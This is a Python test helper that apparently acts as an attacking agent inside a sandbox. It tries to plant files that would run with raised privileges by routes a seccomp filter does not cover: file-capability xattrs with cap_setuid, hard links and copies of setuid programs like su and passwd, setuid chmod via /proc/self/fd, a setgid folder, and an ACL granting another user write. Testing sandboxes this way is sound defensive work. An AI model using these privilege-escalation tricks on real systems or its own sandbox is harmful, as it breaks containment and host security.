"""A command agent for round 13's second outside attack (tests/test_attack51b_*.py).

    python tests/attack51b_agent.py

Standard library only. It prints one JSON object saying what each attack reached;
what it tries comes from its environment:

    ATTACK_AROUND  FOLDER (a `write:` folder): tries to leave there a file the host would
                   run with more than its runner's rights, by ways the system-call filter
                   (agents/seccomp.py) does not look at: file capabilities (setxattr
                   security.capability, v2 and v3 with root id 0), a hard link to a
                   setuid program of the system, a copy of one keeping its mode
                   (shutil.copy2), `install -m 4755`, a chmod through /proc/self/fd, a
                   folder made with the setgid bit (mkdir 07777); and an ACL giving
                   another user write: each file's mode as the agent saw it, "ok", or
                   the error's name
"""

from __future__ import annotations

import json
import os
import shutil
import struct
import subprocess

CAP_SETUID = 7
V2 = struct.pack("<IIIII", 0x02000001, 1 << CAP_SETUID, 0, 0, 0)
"""security.capability, revision 2, effective: cap_setuid in permitted."""
V3 = struct.pack("<IIIIII", 0x03000001, 1 << CAP_SETUID, 0, 0, 0, 0)
"""Revision 3: the same, for root id 0 (the host's root)."""
NONE = 0xFFFFFFFF
ENTRIES = ((1, 7, NONE), (2, 6, 12345), (4, 5, NONE), (0x10, 7, NONE), (0x20, 5, NONE))
ACL = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in ENTRIES)
"""system.posix_acl_access: user 12345 may read and write."""
SETUID_PROGRAMS = ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount", "/bin/su")


def _made(path: str) -> str:
    with open(path, "w") as f:
        f.write("#!/bin/sh\nid\n")
    os.chmod(path, 0o755)
    return path


def _xattr(name: str, value: bytes):  # type: ignore[no-untyped-def]
    def attempt(path: str) -> str:
        os.setxattr(_made(path), name, value)
        return "ok"

    return attempt


def _setuid_program() -> str:
    return next(p for p in SETUID_PROGRAMS if os.path.exists(p) and os.stat(p).st_mode & 0o4000)


def _link(path: str) -> str:
    os.link(_setuid_program(), path)
    return oct(os.lstat(path).st_mode)


def _copy(path: str) -> str:
    shutil.copy2(_setuid_program(), path)
    return oct(os.lstat(path).st_mode)


def _install(path: str) -> str:
    done = subprocess.run(["install", "-m", "4755", "/bin/true", path], capture_output=True)
    return oct(os.lstat(path).st_mode) if done.returncode == 0 else "refused"


def _proc_fd(path: str) -> str:
    fd = os.open(_made(path), os.O_RDONLY)
    try:
        os.chmod(f"/proc/self/fd/{fd}", 0o4755)
    finally:
        os.close(fd)
    return oct(os.lstat(path).st_mode)


def _setgid_folder(path: str) -> str:
    os.mkdir(path, 0o7777)
    return oct(os.lstat(path).st_mode)


def around(folder: str) -> dict[str, str]:
    tries = {
        "cap_v2": _xattr("security.capability", V2),
        "cap_v3": _xattr("security.capability", V3),
        "link": _link,
        "copy": _copy,
        "install": _install,
        "proc_fd": _proc_fd,
        "setgid_folder": _setgid_folder,
        "acl": _xattr("system.posix_acl_access", ACL),
    }
    seen = {}
    for name, attempt in tries.items():
        try:
            seen[name] = attempt(os.path.join(folder, name))
        except (OSError, StopIteration) as error:
            seen[name] = type(error).__name__ + (
                f" {error.errno}" if isinstance(error, OSError) else ""
            )
    return seen


def main() -> None:
    result: dict[str, object] = {}
    if os.environ.get("ATTACK_AROUND"):
        result["around"] = around(os.environ["ATTACK_AROUND"])
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
